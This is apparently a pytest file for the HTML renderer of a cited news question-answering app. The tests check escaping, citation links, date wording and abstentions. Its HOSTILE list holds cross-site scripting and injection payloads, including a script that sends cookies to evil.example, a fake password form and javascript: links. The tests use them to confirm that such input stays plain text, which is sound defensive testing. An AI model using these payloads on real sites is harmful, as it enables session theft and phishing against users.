from dataclasses import replace
from html.parser import HTMLParser

import pytest

from rag.answer import Answer, Citation, RetrievedPassage, Statement
from rag.documents import Document
from ui import render
from ui.render import Turn

TEXT = "Kabar Dunia\n\nPutin menelepon Trump, Minggu (17/12). Kremlin membenarkannya.\nBaca juga: yang lain"
QUOTE = "Putin menelepon Trump, Minggu (17/12)."
START = TEXT.index(QUOTE)

DOCUMENT = Document(
    id="kabar.txt",
    path="kabar.txt",
    text=TEXT,
    title="Kabar Dunia",
    publisher="Kabar",
    published="2017-12-18",
    precision="day",
    language="id",
    url="https://kabar.example/dunia",
)
CITATION = Citation(
    number=1,
    document_id="kabar.txt",
    passage_id="kabar.txt#0",
    path="kabar.txt",
    title="Kabar Dunia",
    publisher="Kabar",
    published="2017-12-18",
    quote=QUOTE,
    start=START,
    end=START + len(QUOTE),
)
PASSAGE = RetrievedPassage(
    document_id="kabar.txt",
    passage_id="kabar.txt#0",
    text=QUOTE,
    score=1.0,
    path="kabar.txt",
    title="Kabar Dunia",
    publisher="Kabar",
    published="2017-12-18",
)
STATEMENT = Statement("Putin called Trump.", (1,), publishers=("Kabar",), date="2017-12-17")
ANSWER = Answer(
    question="When did Putin call?",
    answered=True,
    text="Putin called Trump. [1]",
    statements=(STATEMENT,),
    citations=(CITATION,),
    passages=(PASSAGE,),
    timings={"total_ms": 2140.0},
    complete=True,
)
ABSTENTION = replace(
    ANSWER, answered=False, statements=(), citations=(), text="No article says it.\nNearest:\n- a list in words"
)

HOSTILE = [
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=https://evil.example/pixel.png>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][1]\n\n[1]: https://evil.example/pixel.png",
    "<div style=\"background-image:url('https://evil.example/css')\">x</div>",
    "<style>body{background:url(https://evil.example/css)}</style>",
    '<div style="position:fixed;inset:0;z-index:9999">Log in</div>',
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    "<svg onload=alert(1)><use href='https://evil.example/x.svg#a'/></svg>",
    "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=https://evil.example/>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    '" onmouseover="alert(1)" x="',
    "</q></li></ol></section><a href=//evil.example class=marker>[1]</a>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} {% raw %}",
]


class Markup(HTMLParser):
    """What a browser would make of it: tags, attributes, text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data

    def links(self) -> list[str]:
        return [value for tag, name, value in self.attributes if (tag, name) == ("a", "href")]


def hostile_pages(payload: str) -> list[str]:
    """Every view, with the payload wherever text from an article, a model, a file name or a user can stand."""
    document = replace(
        DOCUMENT, id=payload, path=payload, title=payload, publisher=payload, published=payload, url=payload,
        language=payload, text=f"{payload}\n{TEXT}", derived=True,
    )  # fmt: skip
    citation = replace(
        CITATION, document_id=payload, passage_id=payload, path=payload, title=payload, publisher=payload,
        published=payload, url=payload, quote=payload, start=0, end=len(payload),
    )  # fmt: skip
    passage = replace(PASSAGE, document_id=payload, path=payload, title=payload, publisher=payload, published=payload)
    statements = (
        Statement(payload, (1,), publishers=(payload,), date=payload),
        Statement(payload, (), supported=False, reason=payload),
    )
    answer = replace(
        ANSWER, question=payload, text=payload, statements=statements, citations=(citation,), passages=(passage,),
        disagreement=True, language=payload,
    )  # fmt: skip
    abstention = replace(answer, answered=False, statements=(), citations=())
    turns = [Turn(payload, answer), Turn(payload, abstention), Turn(payload, error=payload), Turn(payload)]
    return [
        render.transcript(turns),
        render.article(document, citation),
        render.article(document),
        render.articles([document]),
        render.notice(payload),
        render.models({"llm": payload, "embedding": payload}),
    ]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_stays_text_wherever_it_stands(payload):
    for html in hostile_pages(payload):
        page = Markup(html)
        assert page.tags <= render.TAGS
        assert {name for _, name, _ in page.attributes} <= {
            "href",
            "target",
            "rel",
            "class",
            "lang",
            "datetime",
        }
        assert all(link.startswith("#") for link in page.links()), page.links()
        assert {
            name for _, kind, value in page.attributes if kind == "class" for name in value.split()
        } <= render.CLASSES


def test_hostile_text_is_shown_and_not_swallowed():
    payload = "<script>alert(1)</script>"
    assert (
        Markup(render.transcript([Turn(payload, replace(ANSWER, statements=(Statement(payload),)))])).text.count(
            payload
        )
        == 2
    )


def test_half_a_surrogate_pair_does_not_break_the_page():
    assert "a?b" in render.transcript([Turn("a\ud800b")])


def test_markers_are_links_only_where_there_is_a_citation():
    statement = replace(STATEMENT, citations=(1, 7))
    page = Markup(render.transcript([Turn("q", replace(ANSWER, statements=(statement,)))]))
    assert page.links().count("#cite-1-1") == 2  # in the text, and in the list of citations
    assert not any("cite-1-7" in link for link in page.links())


def test_a_text_without_statements_links_its_known_markers_and_keeps_other_brackets():
    answer = replace(ANSWER, statements=(), text="Said [1], not [2] nor [sic].", complete=False)
    page = Markup(render.transcript([Turn("q", answer)]))
    assert "Said [1], not [2] nor [sic]." in page.text
    assert page.links().count("#cite-1-1") == 2
    assert "#cite-1-2" not in page.links()


def test_markers_say_which_turn_they_belong_to():
    links = Markup(render.transcript([Turn("first", ANSWER), Turn("second", ANSWER)])).links()
    assert {"#cite-1-1", "#cite-2-1"} <= set(links)


def test_an_unsupported_statement_is_struck_and_says_why():
    doubtful = Statement("Trump called Putin.", supported=False, reason="the article names the other caller")
    html = render.transcript([Turn("q", replace(ANSWER, statements=(STATEMENT, doubtful)))])
    assert "<s>Trump called Putin.</s>" in html
    assert "<s>Putin called Trump." not in html
    assert "not confirmed: the article names the other caller" in html


def test_a_statement_shows_its_full_date_and_its_publishers():
    english = render.transcript([Turn("q", ANSWER)])
    indonesian = render.transcript([Turn("q", replace(ANSWER, language="id"))])
    assert "17 December 2017" in english
    assert "reported by Kabar" in english
    assert "17 Desember 2017" in indonesian
    assert "diberitakan oleh Kabar" in indonesian


def test_statements_about_one_day_stand_under_one_date():
    undated = Statement("Nobody knows when.")
    html = render.transcript([Turn("q", replace(ANSWER, statements=(STATEMENT, STATEMENT, undated, STATEMENT)))])
    assert html.count("<time") == 2
    assert html.count('<li class="dated">') == 3  # the undated one does not stand under the date before it


def test_the_citation_shows_publisher_date_and_the_quote_verbatim():
    html = render.transcript([Turn("q", ANSWER)])
    assert "Kabar · 18 Dec 2017" in html
    assert f'<q class="quote">{QUOTE}</q>' in html


def test_retrieved_articles_are_shown_once_each_and_before_any_statement():
    other = replace(PASSAGE, document_id="lain.txt", publisher="Lain")
    retrieved = (
        PASSAGE,
        other,
        replace(PASSAGE, passage_id="kabar.txt#1", publisher="never the worse passage"),
    )
    page = Markup(render.transcript([Turn("q", Answer("q", passages=retrieved))]))
    assert page.links() == ["#document-kabar.txt", "#document-lain.txt"]
    assert "Reading" in page.text
    assert "never the worse" not in page.text


def test_a_disagreement_is_announced():
    assert "The articles disagree" in render.transcript([Turn("q", replace(ANSWER, disagreement=True))])
    assert "The articles disagree" not in render.transcript([Turn("q", ANSWER)])


def test_an_abstention_looks_different_and_offers_the_nearest_articles():
    html = render.transcript([Turn("q", ABSTENTION)])
    assert 'class="abstained"' in html
    assert "No article says it." in html
    assert "Nearest articles" in html
    assert "#document-kabar.txt" in html
    assert 'class="abstained"' not in render.transcript([Turn("q", ANSWER)])


def test_an_abstention_lists_the_nearest_articles_once_and_as_links():
    assert "a list in words" not in render.transcript([Turn("q", ABSTENTION)])


def test_without_a_model_nothing_is_said_to_be_missing():
    unread = replace(ABSTENTION, text="No chat model is running.", models={"llm": "", "embedding": "e5"})
    html = render.transcript([Turn("q", unread)])
    assert "Not in the articles" not in html
    assert "#document-kabar.txt" in html


def test_a_statement_that_is_just_a_date_has_no_second_one():
    html = render.transcript([Turn("q", replace(ANSWER, statements=(replace(STATEMENT, text="17 December 2017"),)))])
    assert html.count("17 December 2017") == 1


def test_an_abstention_still_shows_what_was_read_but_not_confirmed():
    doubtful = Statement("Oil cost 60 dollars.", supported=False, reason="no article has that number")
    html = render.transcript([Turn("q", replace(ABSTENTION, statements=(doubtful,)))])
    assert "<s>Oil cost 60 dollars.</s>" in html


@pytest.mark.parametrize(
    ("turn", "pending"),
    [
        (Turn("q"), True),
        (Turn("q", replace(ANSWER, complete=False)), True),
        (Turn("q", ANSWER), False),
        (Turn("q", error="The model is gone."), False),
        (Turn("q", stopped=True), False),
    ],
)
def test_a_turn_is_pending_until_it_is_complete_failed_or_stopped(turn, pending):
    assert turn.pending is pending
    assert ('class="turn pending"' in render.transcript([turn])) is pending


def test_an_error_keeps_what_was_answered_before_it():
    html = render.transcript([Turn("q", replace(ANSWER, complete=False), error="The model is gone.")])
    assert "Putin called Trump." in html
    assert "The model is gone." in html


def test_a_pasted_question_is_echoed_only_in_part():
    assert len(Markup(render.transcript([Turn("x" * 20_000, error="too long")])).text) < 1000


def test_the_article_marks_exactly_the_quote():
    html = render.article(DOCUMENT, CITATION)
    assert f"<mark>{QUOTE}</mark>" in html
    assert html.count("<mark>") == 1
    page = Markup(html)
    assert "Kremlin membenarkannya." in page.text
    assert "Kabar · 18 December 2017" in page.text
    assert "https://kabar.example/dunia" in page.links()


def test_a_quote_over_two_paragraphs_is_marked_in_both():
    start, end = TEXT.index("Kremlin"), TEXT.index(": yang")
    citation = replace(CITATION, quote=TEXT[start:end], start=start, end=end)
    html = render.article(DOCUMENT, citation)
    assert "<mark>Kremlin membenarkannya.</mark>" in html
    assert "<mark>Baca juga</mark>" in html


def test_a_quote_that_is_no_longer_there_is_not_marked_and_said_so():
    html = render.article(replace(DOCUMENT, text="x" + TEXT), CITATION)
    assert "<mark>" not in html
    assert "has changed since" in html


def test_the_title_is_not_said_twice():
    assert Markup(render.article(DOCUMENT)).text.count("Kabar Dunia") == 1


def test_a_worked_out_date_says_so():
    assert "date worked out from the text" in render.article(replace(DOCUMENT, derived=True))
    assert "date worked out from the text" not in render.article(DOCUMENT)


def test_a_long_list_of_articles_is_cut_and_counted():
    documents = [replace(DOCUMENT, id=f"{number}.txt") for number in range(render.LISTED + 1234)]
    page = Markup(render.articles(documents))
    assert sum(link.startswith("#document-") for link in page.links()) == render.LISTED
    assert "and 1,234 more" in page.text


@pytest.mark.parametrize(
    ("iso", "language", "words"),
    [
        ("2017-12-07", "en", "7 December 2017"),
        ("2019-08-29", "id", "29 Agustus 2019"),
        ("2017-12", "id", "Desember 2017"),
        ("2017", "en", "2017"),
        ("", "en", ""),
        ("last Sunday", "en", "last Sunday"),
        ("2017-13-01", "en", "2017-13-01"),
        ("2017-12-07", "fr", "7 December 2017"),
    ],
)
def test_dates_are_written_as_precisely_as_they_are_known(iso, language, words):
    assert render.date_in_words(iso, language) == words


def test_short_dates_cut_the_month_and_nothing_else():
    assert render.date_in_words("2019-08-29", "id", short=True) == "29 Agu 2019"
    assert render.date_in_words("last Sunday", "en", short=True) == "last Sunday"


@pytest.mark.parametrize(
    ("progress", "words"),
    [
        ((5, 3, 7), "5 articles · 3 of 7 read"),
        ((5, 7, 7), "5 articles"),
        ((1, 1, 1), "1 article"),
        ((12_000, 0, 0), "12,000 articles"),
    ],
)
def test_reading_ahead_is_counted_until_it_is_done(progress, words):
    assert Markup(render.progress(*progress)).text == words


def test_both_languages_have_every_label():
    assert render.LABELS["en"].keys() == render.LABELS["id"].keys()


def test_every_link_of_a_page_is_one_that_the_page_follows():
    html = render.transcript([Turn("q", ANSWER)]) + render.article(DOCUMENT, CITATION) + render.articles([DOCUMENT])
    known = ("#cite-", "#document-", "#articles", "#close", "https://")
    assert all(link.startswith(known) for link in Markup(html).links())


def test_a_model_that_failed_is_named_beside_the_evidence_and_nothing_is_called_missing():
    failed = replace(ABSTENTION, text="The chat model failed:\n- Kabar", problem="Ollama took too long.")
    html = render.transcript([Turn("Who?", failed)])
    assert "Ollama took too long." in html
    assert "#document-kabar.txt" in html
    assert "Not in the articles" not in html


def test_a_model_that_failed_midway_leaves_what_it_said_and_is_named():
    html = render.transcript([Turn("Who?", replace(ANSWER, problem="Ollama took too long."))])
    assert "Putin called Trump." in html
    assert "Ollama took too long." in html
